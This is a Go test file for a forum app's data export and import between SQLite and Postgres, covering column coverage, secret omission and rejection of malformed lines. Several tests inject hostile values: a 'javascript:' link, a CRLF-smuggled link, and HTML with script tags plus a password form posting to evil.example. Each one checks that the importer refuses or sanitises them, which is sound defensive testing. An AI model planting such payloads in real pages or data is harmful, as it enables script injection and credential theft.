package store_test

import (
	"bytes"
	"crypto/sha256"
	"database/sql"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/stdlib"

	"lightstick/internal/fault"
	"lightstick/internal/forum"
	"lightstick/internal/identity"
	"lightstick/internal/markup"
	"lightstick/internal/media"
	"lightstick/internal/store"
	"lightstick/internal/testkit/pgtest"
)

// What an export leaves out, and why. Whoever adds a table or a column chooses: a line in
// export_tables.go, or a reason here.
var (
	derived = map[string]string{
		"fandoms.posts": "counted", "boards.posts": "counted", "members.posts": "counted", "members.comments": "counted",
		"posts.comments": "counted", "posts.r0": "counted", "posts.r1": "counted", "posts.r2": "counted", "posts.r3": "counted", "posts.r4": "counted", "posts.r5": "counted",
		"posts.score": "ranked", "posts.hot": "ranked",
		"comments.r0": "counted", "comments.r1": "counted", "comments.r2": "counted", "comments.r3": "counted", "comments.r4": "counted", "comments.r5": "counted",
		"comments.depth": "from parent_id", "comments.path": "from parent_id", "comments.landed_at": "when the row arrived in this database",
	}
	excluded = map[string]string{
		"changes":     "what is not counted and indexed yet: an import counts and indexes everything",
		"search_docs": "the search index", "search_index": "the search index", "search_index_config": "the search index", "search_index_data": "the search index",
		"search_index_docsize": "the search index", "search_index_idx": "the search index",
		"link_cards": "fetched again when needed",
		"tickets":    "links in mails that hold for hours; a new mail makes a new one",
		"hot_pages":  "what this site's nodes warm at their start",
	}
)

const (
	liteColumns = `SELECT m.name, p.name FROM sqlite_master m JOIN pragma_table_info(m.name) p WHERE m.type = 'table'`
	pgColumns   = `SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'public'`
)

func TestExportKnowsEveryColumn(t *testing.T) {
	engines(t, func(t *testing.T, w *world) {
		db, query := w.SQLite(), liteColumns
		if p := w.Postgres(); p != nil {
			db, query = stdlib.OpenDBFromPool(p), pgColumns
			defer db.Close()
		}
		known, seen := store.Exported(), map[string]bool{}
		others := regexp.MustCompile(`^(river|goose|sqlite)_`) // the job queue's and the machinery's own
		for _, c := range tableColumns(t, db, query) {
			table, column := c[0], c[1]
			if others.MatchString(table) || excluded[table] != "" {
				continue
			}
			seen[table+"."+column] = true
			if !slices.Contains(known[table], column) && derived[table+"."+column] == "" {
				t.Errorf("%s.%s is neither exported (export_tables.go) nor excluded with a reason (this file)", table, column)
			}
		}
		for table, columns := range known {
			for _, column := range columns {
				if !seen[table+"."+column] {
					t.Errorf("%s.%s is exported and does not exist", table, column)
				}
			}
		}
	})
}

func tableColumns(t *testing.T, db *sql.DB, query string) (list [][2]string) {
	t.Helper()
	rows, err := db.QueryContext(t.Context(), query)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		var c [2]string
		if err := rows.Scan(&c[0], &c[1]); err != nil {
			t.Fatal(err)
		}
		list = append(list, c)
	}
	if err := rows.Err(); err != nil || len(list) == 0 {
		t.Fatalf("%d columns: %v", len(list), err)
	}
	return list
}

// furnish fills every table and brings the derived ones up to date.
func (w *world) furnish() {
	w.t.Helper()
	now := w.clock.now()
	a := w.post("첫 글 \u2028 \"<&>\\", "정국 무대 최고 — line\nbreak\t😀")
	hidden, empty := w.post("hidden", "secret stage"), w.post("", "")
	first := w.comment(a.ID, 0, "첫 댓글")
	under := first.ID
	for i := range 5 {
		under = w.comment(a.ID, under, fmt.Sprintf("reply %d", i)).ID
	}
	w.comment(hidden.ID, 0, "under a hidden post")
	held := w.comment(empty.ID, 0, "held")
	if err := fill(w, 30, 1500); err != nil {
		w.t.Fatal(err)
	}
	target := forum.Target{Kind: forum.TargetPost, ID: a.ID}
	w.react(target, a.ID, w.ann, 0, true)
	w.react(target, a.ID, w.ben, 5, true)
	w.react(forum.Target{Kind: forum.TargetComment, ID: first.ID}, a.ID, w.ann, 3, true)
	w.update(func(tx forum.Tx) error {
		rule := forum.WordRule{FandomID: 0, Pattern: "bad*", Action: "hold", CreatedAt: now}
		sanction := forum.Sanction{Member: ref(w.ben), Kind: "mute", Reason: "noise", By: ref(w.ann), CreatedAt: now, ExpiresAt: now.Add(time.Hour)}
		event := forum.Event{FandomID: w.fandom.ID, Kind: "stream", Title: "쇼케이스", StartsAt: now, EndsAt: now.Add(time.Hour), PostID: a.ID, CreatedAt: now, UpdatedAt: now}
		hidden.State = forum.Hidden
		hidden.Author, hidden.Board = ref(w.ann), forum.BoardRef{ID: w.board.ID, FandomID: w.fandom.ID}
		held.State = forum.Held
		return errors.Join(tx.ReplaceAliases(w.ctx, w.fandom.ID, [][]string{{"정국", "JK", `q"'`}}), tx.SetModerator(w.ctx, w.fandom.ID, w.ben.ID, true),
			tx.InsertWordRule(w.ctx, &rule), tx.InsertSanction(w.ctx, &sanction), tx.InsertEvent(w.ctx, &event),
			tx.UpdatePost(w.ctx, &hidden), tx.UpdateComment(w.ctx, &held),
			tx.InsertRevision(w.ctx, forum.Revision{Target: target, Version: 1, Title: "전", Body: "before", EditorID: w.ann.ID, At: now}),
			tx.InsertReport(w.ctx, forum.Report{CaseTarget: target, FandomID: w.fandom.ID, ReporterID: w.ben.ID, Reason: "spam", CreatedAt: now}),
			tx.InsertNotification(w.ctx, forum.Notification{MemberID: w.ann.ID, Kind: "reply", Target: target, PostID: a.ID, ActorID: w.ben.ID, At: now}),
			tx.InsertAudit(w.ctx, forum.AuditEntry{Actor: ref(w.ann), Action: "post.hide", Target: target, FandomID: w.fandom.ID, Detail: `{"a":1}`, At: now}))
	})
	err := w.identity(func(tx identity.Tx) error {
		s := identity.Session{MemberID: w.ann.ID, CreatedAt: now, LastSeenAt: now, ExpiresAt: now.Add(time.Hour), UserAgent: "x", Addr: "::1"}
		k := identity.APIToken{Name: "bot", CreatedAt: now, ExpiresAt: now.Add(time.Hour)}
		return errors.Join(tx.InsertSession(w.ctx, &s, identity.Hash(sha256.Sum256([]byte("s")))), tx.InsertAPIToken(w.ctx, w.ann.ID, &k, identity.Hash(sha256.Sum256([]byte("k")))))
	})
	if err != nil {
		w.t.Fatal(err)
	}
	once := forum.WithOnce(w.ctx, &forum.Once{Owner: w.ann.ID, Key: "key", Answer: func(any) (forum.Replay, error) { return forum.Replay{Status: 201}, nil }})
	if err := w.audit(once, "once"); err != nil {
		w.t.Fatal(err)
	}
	must[media.Attachment](w.t)(w.InsertAttachment(w.ctx, media.Attachment{OwnerID: int64(w.ann.ID), Key: "aaaa.png", ContentType: "image/png", Width: 2, Height: 3, Bytes: 4, Alt: "대체", CreatedAt: now}))
	w.exec(fmt.Sprintf(`INSERT INTO post_views (post_id, views) VALUES (%d, 7)`, a.ID))
	w.flush()
}

func (w *world) export(t *testing.T, o store.ExportOptions) ([]byte, store.Counts) {
	t.Helper()
	var out bytes.Buffer
	counts, err := w.Export(w.ctx, &out, o)
	if err != nil {
		t.Fatal(err)
	}
	return out.Bytes(), counts
}

// vacant is an empty community on the other engine, or on the same.
func vacant(t *testing.T, from *world, url string) *world {
	t.Helper()
	to := &world{t: t, ctx: t.Context(), clock: from.clock, url: url, fandom: from.fandom, board: from.board, ann: from.ann, ben: from.ben}
	to.Store = open(t, url, from.clock.now)
	if err := to.Migrate(t.Context()); err != nil {
		t.Fatal(err)
	}
	return to
}

// derivedRows is everything that an export leaves to be made anew, as text.
func (w *world) derivedRows(t *testing.T) string {
	t.Helper()
	db := w.SQLite()
	if p := w.Postgres(); p != nil {
		db = stdlib.OpenDBFromPool(p)
		defer db.Close()
	}
	var out strings.Builder
	for _, q := range []string{
		`SELECT id, comments, r0, r1, r2, r3, r4, r5, score, hot FROM posts ORDER BY id`,
		`SELECT id, depth, path, r0, r1, r2, r3, r4, r5, 0 FROM comments ORDER BY id`,
		`SELECT id, posts, comments, 0, 0, 0, 0, 0, 0, 0 FROM members ORDER BY id`,
		`SELECT id, posts, 0, 0, 0, 0, 0, 0, 0, 0 FROM boards ORDER BY id`,
		`SELECT id, posts, 0, 0, 0, 0, 0, 0, 0, 0 FROM fandoms ORDER BY id`,
		// Ids in the index follow the order of indexing within a second; what is in it does not.
		`SELECT kind, target_id, id / 4096, 0, 0, 0, 0, 0, 0, 0 FROM search_docs ORDER BY kind, target_id`,
	} {
		rows, err := db.QueryContext(t.Context(), q)
		if err != nil {
			t.Fatal(err)
		}
		for rows.Next() {
			into := make([]any, 10)
			for i := range into {
				into[i] = new(any)
			}
			if err := rows.Scan(into...); err != nil {
				t.Fatal(err)
			}
			for _, v := range into {
				fmt.Fprint(&out, *v.(*any), " ")
			}
			out.WriteByte('\n')
		}
		if err := errors.Join(rows.Err(), rows.Close()); err != nil {
			t.Fatal(err)
		}
	}
	return out.String()
}

func TestMoveBetweenEngines(t *testing.T) {
	engines(t, func(t *testing.T, w *world) {
		w.furnish()
		first, counts := w.export(t, store.ExportOptions{Secrets: true})
		for _, kind := range store.ExportKinds() {
			if counts[kind] == 0 {
				t.Errorf("the test has no line of type %q", kind)
			}
		}
		there, back := pgtest.Database(t), "sqlite:"+filepath.Join(t.TempDir(), "back.db")
		if w.Postgres() != nil {
			there, back = back, there
		}
		from, data := w, first
		for _, url := range []string{there, back} {
			to := vacant(t, w, url)
			read, err := to.Import(t.Context(), bytes.NewReader(data), store.ImportOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if !maps.Equal(read, counts) {
				t.Errorf("imported %v of %v", read, counts)
			}
			again, _ := to.export(t, store.ExportOptions{Secrets: true})
			if !bytes.Equal(again, first) {
				t.Errorf("the export differs after the move: %s", firstDifference(first, again))
			}
			if a, b := from.derivedRows(t), to.derivedRows(t); a != b {
				t.Errorf("what is derived differs: %s", firstDifference([]byte(a), []byte(b)))
			}
			from, data = to, again
		}
		arrived(t, from)
	})
}

// arrived makes sure that life goes on: what is found, counted and written.
func arrived(t *testing.T, w *world) {
	if err := w.Reconcile(w.ctx); err != nil || w.number(`SELECT count(*) FROM changes`) != 0 {
		t.Errorf("there was something to reconcile: %v", err)
	}
	q := forum.IndexQuery{Words: [][]markup.Term{{markup.Terms("정국")[0]}}}
	if docs, err := w.SearchIndex(w.ctx, q, 500); err != nil || len(docs) < 100 {
		t.Errorf("정국 found %d times: %v", len(docs), err)
	}
	last := w.number(`SELECT max(id) FROM posts`)
	if p := w.post("after", "the move"); int(p.ID) != last+1 {
		t.Errorf("the post after %d is %d", last, p.ID)
	}
	last = w.number(`SELECT max(id) FROM comments`)
	if c := w.comment(1, 0, "after"); int(c.ID) != last+1 {
		t.Errorf("the comment after %d is %d", last, c.ID)
	}
	if _, err := w.Import(t.Context(), strings.NewReader(""), store.ImportOptions{}); !errors.Is(err, store.ErrNotEmpty) {
		t.Errorf("import into a full site: %v", err)
	}
}

func firstDifference(a, b []byte) string {
	x, y := strings.Split(string(a), "\n"), strings.Split(string(b), "\n")
	for i := range min(len(x), len(y)) {
		if x[i] != y[i] {
			return fmt.Sprintf("line %d:\n%.300s\n%.300s", i+1, x[i], y[i])
		}
	}
	return fmt.Sprintf("%d and %d lines", len(x), len(y))
}

func TestExportWithoutSecrets(t *testing.T) {
	engines(t, func(t *testing.T, w *world) {
		w.furnish()
		data, counts := w.export(t, store.ExportOptions{})
		for _, s := range []string{"hash-ann", `"password"`, `"type":"session"`, `"type":"api_token"`, `"type":"once"`} {
			if bytes.Contains(data, []byte(s)) {
				t.Errorf("%s is in it", s)
			}
		}
		to := vacant(t, w, "sqlite:"+filepath.Join(t.TempDir(), "to.db"))
		read := must[store.Counts](t)(to.Import(t.Context(), bytes.NewReader(data), store.ImportOptions{}))
		if !maps.Equal(read, counts) || to.number(`SELECT count(*) FROM members WHERE password = ''`) != 2 {
			t.Errorf("imported %v of %v", read, counts)
		}
	})
}

func TestMovePictures(t *testing.T) {
	w := newWorld(t, "sqlite:"+filepath.Join(t.TempDir(), "from.db"))
	from, to := disk(t), disk(t)
	want := bytes.Repeat([]byte("picture"), 100_000)
	if err := from.Put(t.Context(), "aaaa.png", bytes.NewReader(want), int64(len(want)), "image/png"); err != nil {
		t.Fatal(err)
	}
	data, counts := w.export(t, store.ExportOptions{Blobs: from})
	target := vacant(t, w, pgtest.Database(t))
	if read := must[store.Counts](t)(target.Import(t.Context(), bytes.NewReader(data), store.ImportOptions{Blobs: to})); !maps.Equal(read, counts) || read["blob"] != 1 {
		t.Errorf("imported %v of %v", read, counts)
	}
	b := must[*media.Blob](t)(to.Get(t.Context(), "aaaa.png"))
	defer b.Body.Close()
	var got bytes.Buffer
	if _, err := got.ReadFrom(b.Body); err != nil || !bytes.Equal(got.Bytes(), want) {
		t.Errorf("another picture of %d bytes: %v", got.Len(), err)
	}
}

func disk(t *testing.T) *media.Disk {
	d := must[*media.Disk](t)(media.OpenDisk(t.TempDir()))
	t.Cleanup(func() { d.Close() })
	return d
}

// TestImportRefuses spoils one line of an export in many ways.
func TestImportRefuses(t *testing.T) {
	engines(t, func(t *testing.T, w *world) {
		w.furnish()
		data, _ := w.export(t, store.ExportOptions{})
		lines := strings.SplitAfter(strings.TrimSuffix(string(data), "\n")+"\n", "\n")
		lines = lines[:len(lines)-1]
		line := func(kind string) int {
			return slices.IndexFunc(lines, func(l string) bool { return strings.HasPrefix(l, `{"type":"`+kind+`"`) })
		}
		member, post, comment, reaction, event := line("member"), line("post"), line("comment"), line("reaction"), line("event")
		replace := func(old, new string) func(string) string {
			return func(s string) string {
				if !strings.Contains(s, old) {
					t.Fatalf("no %s in %s", old, s)
				}
				return strings.Replace(s, old, new, 1)
			}
		}
		url := pgtest.Database(t)
		if w.Postgres() == nil {
			url = "sqlite:" + filepath.Join(t.TempDir(), "to.db")
		}
		to := vacant(t, w, url)
		for name, c := range map[string]struct {
			at     int
			change func(string) string
			want   string
		}{
			"no JSON":           {post, func(string) string { return "{\n" }, "not a JSON object"},
			"a list":            {post, func(string) string { return "[]\n" }, "not a JSON object"},
			"null":              {post, func(string) string { return "null\n" }, "not a string"},
			"no UTF-8":          {post, replace(`첫`, "\xff"), "not UTF-8"},
			"NUL":               {post, replace(`첫`, `\u0000`), "title: there is a NUL"},
			"unknown type":      {post, replace(`"post"`, `"poster"`), `unknown type "poster"`},
			"unknown field":     {post, replace(`"locked"`, `"extra":1,"locked"`), `unknown field "extra"`},
			"missing field":     {post, replace(`"locked":false,`, ``), "locked: missing"},
			"no integer":        {post, replace(`"author_id":1`, `"author_id":1.5`), "author_id: 1.5 is not an integer"},
			"state":             {post, replace(`"state":0`, `"state":4`), "state: 4 cannot be"},
			"no boolean":        {post, replace(`"locked":false`, `"locked":0`), "locked: 0 is neither"},
			"no time":           {post, replace(`"edited_at":null`, `"edited_at":"yesterday"`), `edited_at: "yesterday" is not a time`},
			"no string":         {post, replace(`"lang":"ko"`, `"lang":null`), "lang: null is not a string"},
			"an id to end all":  {event, replace(`"id":1`, `"id":9223372036854775807`), "id: 9223372036854775807 cannot be"},
			"link to a script":  {event, replace(`"link":""`, `"link":"javascript:alert(1)"`), "link: "},
			"link of two lines": {event, replace(`"link":""`, `"link":"https://a.example/\r\nATTENDEE:x"`), "link: "},
			"no author":         {post, replace(`"author_id":1`, `"author_id":99`), "author_id: there is no 99 in members"},
			"no board":          {post, replace(`"board_id":1`, `"board_id":0`), "board_id: 0 cannot be"},
			"order of ids":      {post + 1, replace(`"id":2`, `"id":1`), "id: 1 does not come after 1"},
			"order of types":    {comment + 1, func(string) string { return lines[post] }, `"post" after those of type "comment"`},
			"handle twice":      {member + 1, replace(`"handle":"ben"`, `"handle":"ann"`), "there is such a row already"},
			"reaction twice":    {reaction, func(s string) string { return s + s }, "there is such a row already"},
			"reply to nothing":  {comment, replace(`"parent_id":0`, `"parent_id":77`), "parent_id: there is no comment 77"},
			"secret":            {member, replace(`"verified"`, `"password":"x","verified"`), `unknown field "password"`},
			"secret line":       {len(lines) - 1, func(s string) string { return `{"type":"session"}` + "\n" + s }, "without secrets"},
			"picture":           {len(lines) - 1, func(s string) string { return `{"type":"blob"}` + "\n" + s }, "without media"},
			"no header":         {0, func(string) string { return "" }, "begins with"},
			"other format":      {0, replace(`"format":1`, `"format":2`), "format 2"},
			"other schema":      {0, replace(`"schema":`, `"schema":9`), "is of schema 9"},
			"line cut off":      {len(lines) - 1, func(s string) string { return s[:10] }, "cut off"},
			"file cut off":      {len(lines) - 1, func(string) string { return "" }, "cut off"},
			"a line less":       {reaction, func(string) string { return "" }, `lines of type "reaction" were written`},
			"more after it all": {len(lines) - 1, func(s string) string { return s + lines[post] }, "after the last line"},
			"too long":          {post, replace("첫", strings.Repeat("x", 9<<20)), "too long"},
		} {
			t.Run(name, func(t *testing.T) {
				spoilt := slices.Clone(lines)
				spoilt[c.at] = c.change(spoilt[c.at])
				_, err := to.Import(t.Context(), strings.NewReader(strings.Join(spoilt, "")), store.ImportOptions{})
				bad, ok := errors.AsType[*store.BadLine](err)
				if !ok || !strings.Contains(err.Error(), c.want) {
					t.Fatalf("%v, want %q", err, c.want)
				}
				// Where a line is missing it shows at one that follows.
				if bad.Line < int64(c.at) || c.change(lines[c.at]) != "" && name != "reaction twice" && bad.Line > int64(c.at+2) {
					t.Errorf("line %d is blamed for line %d", bad.Line, c.at+1)
				}
				if n := to.number(`SELECT count(*) FROM fandoms`) + to.number(`SELECT count(*) FROM search_docs`); n != 0 {
					t.Errorf("%d rows stayed", n)
				}
			})
		}
		if _, err := to.Import(t.Context(), bytes.NewReader(data), store.ImportOptions{}); err != nil {
			t.Errorf("after all that the right file is refused: %v", err)
		}
	})
}

// TestImportShowsNoScript: HTML that was out of our hands gets to nobody as it is.
func TestImportShowsNoScript(t *testing.T) {
	engines(t, func(t *testing.T, w *world) {
		p := w.post("a title", "a text")
		data, _ := w.export(t, store.ExportOptions{})
		hostile := regexp.MustCompile(`"(bio_)?html":"[^"]*"`).ReplaceAll(data, []byte(`"${1}html":"<p onclick=alert(1)>kept<script>alert(2)</script><form action=https://evil.example><input name=password></form></p>"`))
		if bytes.Equal(hostile, data) {
			t.Fatal("nothing was changed")
		}
		url := pgtest.Database(t)
		if w.Postgres() == nil {
			url = "sqlite:" + filepath.Join(t.TempDir(), "to.db")
		}
		to := vacant(t, w, url)
		must[store.Counts](t)(to.Import(t.Context(), bytes.NewReader(hostile), store.ImportOptions{}))
		got := must[forum.Post](t)(to.Store.Post(t.Context(), p.ID))
		member := must[forum.Member](t)(to.Store.MemberByHandle(t.Context(), "ann"))
		for what, html := range map[string]string{"a post": got.HTML, "a bio": member.BioHTML} {
			if html != "<p>kept</p>" {
				t.Errorf("%s: %s", what, html)
			}
		}
	})
}

func TestImportReadsNothing(t *testing.T) {
	w := vacant(t, newWorld(t, "sqlite:"+filepath.Join(t.TempDir(), "a.db")), "sqlite:"+filepath.Join(t.TempDir(), "b.db"))
	if _, err := w.Import(t.Context(), strings.NewReader(""), store.ImportOptions{}); err == nil {
		t.Error("an empty file was imported")
	}
	broken := errReader{errors.New("the line is dead")}
	if _, err := w.Import(t.Context(), broken, store.ImportOptions{}); !errors.Is(err, broken.err) {
		t.Errorf("a reader that fails: %v", err)
	}
	if w.Probe(w.ctx) != nil || fault.KindOf(w.Probe(w.ctx)) == fault.Unavailable {
		t.Error("the database is stuck")
	}
}

type errReader struct{ err error }

func (r errReader) Read([]byte) (int, error) { return 0, r.err }

// TestExportWhileWriting exports while others write: it holds a moment, whole in itself.
func TestExportWhileWriting(t *testing.T) {
	engines(t, func(t *testing.T, w *world) {
		p := w.post("hot", "post")
		var ended = make(chan struct{})
		stop := make(chan struct{})
		go func() {
			defer close(ended)
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
					w.comment(p.ID, 0, fmt.Sprint(i))
				}
			}
		}()
		var lastCount int64
		for range 5 {
			data, counts := w.export(t, store.ExportOptions{})
			var last struct{ Counts store.Counts }
			lines := bytes.Split(bytes.TrimSpace(data), []byte("\n"))
			if err := json.Unmarshal(lines[len(lines)-1], &last); err != nil || last.Counts["comment"] != counts["comment"] || counts["comment"] < lastCount {
				t.Errorf("%v: %v", counts, err)
			}
			lastCount = counts["comment"]
			to := vacant(t, w, "sqlite:"+filepath.Join(t.TempDir(), "to.db"))
			if _, err := to.Import(t.Context(), bytes.NewReader(data), store.ImportOptions{}); err != nil {
				t.Error(err)
			}
		}
		close(stop)
		<-ended
	})
}
